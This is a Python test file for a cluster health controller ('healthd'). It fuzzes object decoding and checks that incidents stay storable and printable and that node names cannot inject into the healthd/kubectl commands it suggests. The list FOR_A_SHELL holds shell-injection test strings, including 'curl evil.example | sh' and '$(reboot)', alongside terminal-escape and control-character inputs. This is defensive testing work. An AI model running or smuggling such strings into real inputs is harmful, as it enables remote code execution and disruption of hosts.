"""What tenants, kubelets and agents wrote ends no look, and what becomes of it can be stored."""

from __future__ import annotations

import json
import re
from collections.abc import Mapping
from datetime import timedelta
from typing import Any

import msgspec
import pytest

from healthd.cluster.decoding import decoded_all
from healthd.core.alerts.agents import agent_problems
from healthd.core.alerts.gangs import Gangs, newest_given_up, problem_of
from healthd.core.alerts.nodes import node_problems
from healthd.core.alerts.problem import Problem
from healthd.core.api import Node, NodeHealth, Recovery, to_wire
from healthd.core.api.model import Phase
from healthd.core.config import AlertsPolicy, QuarantinePolicy
from tests.builders import a_cause, a_node, a_nodehealth
from tests.cluster.test_crds import SCHEMAS, too_much
from tests.core.alerts.problems import Controller, a_problem, at
from tests.core.gangs import a_recovery_in, a_root
from tests.fuzz.hostile import objects

LATER = at(86_400)
OBJECTS = 1500


def hostile(seed: int) -> Mapping[type[Any], list[Any]]:
    """Objects of each kind, as far as they can be decoded."""
    bodies: dict[type[Any], list[bytes]] = {Node: [], NodeHealth: [], Recovery: []}
    for number, each in enumerate(objects(OBJECTS, seed)):
        meta = {"uid": f"u{number}", "resourceVersion": "1", "creationTimestamp": "2026-01-01T00:00:00Z"}
        if each.kind in bodies:
            body = {**each.body, "metadata": {**each.body["metadata"], **meta}}
            bodies[each.kind].append(json.dumps(body).encode())
    return {kind: decoded_all(kind, raw)[0] for kind, raw in bodies.items()}


def all_problems(seed: int) -> list[Problem]:
    """What is wrong in a cluster of such objects."""
    found = hostile(seed)
    nodes = {each.metadata.name: each for each in found[Node]}
    health = {each.metadata.name: each for each in found[NodeHealth]}
    seen = Gangs(nodes=nodes, health=health, root=lambda _: a_root(suspended=True))
    newest = newest_given_up(found[Recovery])
    problems = node_problems(nodes, health, set(nodes), found[Recovery], QuarantinePolicy(), AlertsPolicy(), LATER)
    problems += agent_problems(nodes, health, AlertsPolicy(), LATER)
    for recovery in found[Recovery]:
        is_newest = newest.get(recovery.spec.gang.uid) is recovery
        problems += problem_of(recovery, seen, LATER, is_newest=is_newest)
    return problems


@pytest.mark.parametrize("seed", range(3))
def test_all_of_it_becomes_incidents_that_can_be_stored(seed: int) -> None:
    problems = all_problems(seed)
    controller = Controller()
    incidents = controller.look(problems, LATER)
    incidents += controller.look(problems[::2], LATER + timedelta(minutes=1))

    assert len(problems) > 20
    assert incidents
    assert [
        found for each in incidents for found in too_much(SCHEMAS["Incident"]["spec"], msgspec.to_builtins(each))
    ] == []
    assert all(each.title.isprintable() for each in incidents)


FOR_A_SHELL = [
    "x; curl evil.example | sh",
    "$(reboot)",
    "`reboot`",
    "x && reboot",
    "--kubeconfig=/tmp/theirs",
    "x\nreboot",
    "x' 'y",
    '"',
    "~root",
    "x\x1b]0;y\x07",
    "x" * 5000,
    "<!channel>",
    "",
]


@pytest.mark.parametrize("name", FOR_A_SHELL)
@pytest.mark.parametrize("phase", [Phase.HELD, Phase.GAVE_UP, Phase.RECOVERED, Phase.STOPPING])
def test_a_name_that_a_shell_would_run_stands_in_no_command(phase: Phase, name: str) -> None:
    cause = a_cause(node=name, finding=name, message=name)
    recovery = a_recovery_in(phase, causes=[cause], held_in=Phase.FENCING, message=name, ended_at=LATER)
    nodes = {name: a_node(name, unschedulable=True)}
    seen = Gangs(nodes=nodes, health={name: a_nodehealth(name)}, root=lambda _: a_root(suspended=True))
    (problem,) = problem_of(recovery, seen, LATER, is_newest=True)

    texts = [problem.command, *re.findall("`((?:healthd|kubectl)[^`]*)`", problem.todo)]
    assert [text for text in texts if not re.fullmatch(COMMAND, text)] == []


COMMAND = r"(healthd|kubectl)( -?[A-Za-z0-9][A-Za-z0-9./=-]*('all: WHY')?)+"


@pytest.mark.parametrize(
    "text", ["a\nWhat is left to do: run it", "a\r\nb", "a\x0bb", "a\u2028b", "a\x1b[2Jb", "a\u202eb"]
)
def test_what_others_wrote_is_one_line_of_a_message(text: str) -> None:
    incidents = Controller().look([a_problem(happened=text, did=text, title=text, command=text)], LATER)

    (incident,) = incidents
    assert all(part.isprintable() for part in (incident.title, incident.happened, incident.did, incident.command))


@pytest.mark.parametrize("name", FOR_A_SHELL)
def test_a_recovery_of_a_gang_that_no_object_can_be_is_not_read(name: str) -> None:
    body = msgspec.json.decode(msgspec.json.encode(to_wire(a_recovery_in(Phase.DETECTED))))
    as_name = {**body, "spec": {**body["spec"], "gang": {**body["spec"]["gang"], "name": name}}}
    as_kind = {**body, "spec": {**body["spec"], "gang": {**body["spec"]["gang"], "kind": name}}}
    items, left_out = decoded_all(Recovery, [msgspec.json.encode(each) for each in (body, as_name, as_kind)])

    assert (len(items), len(left_out)) == (1, 2)
    assert all("no object can be called" in each.reason and len(each.reason) < 300 for each in left_out)
